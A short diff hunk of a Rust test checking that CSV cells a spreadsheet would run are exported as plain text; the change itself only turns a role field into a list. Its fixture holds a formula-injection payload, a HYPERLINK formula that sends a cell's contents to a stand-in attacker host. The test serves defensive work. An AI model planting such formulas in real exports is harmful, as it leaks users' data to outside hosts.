@@ -156,7 +156,7 @@ fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
             account_id: "a1".into(),
             user_name: "@evil".into(),
             active: true,
-            role: "Viewer".into(),
+            role: vec!["Viewer".into()],
             workspace_groups: vec![
                 "=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")".into(),
                 "Finance".into(),
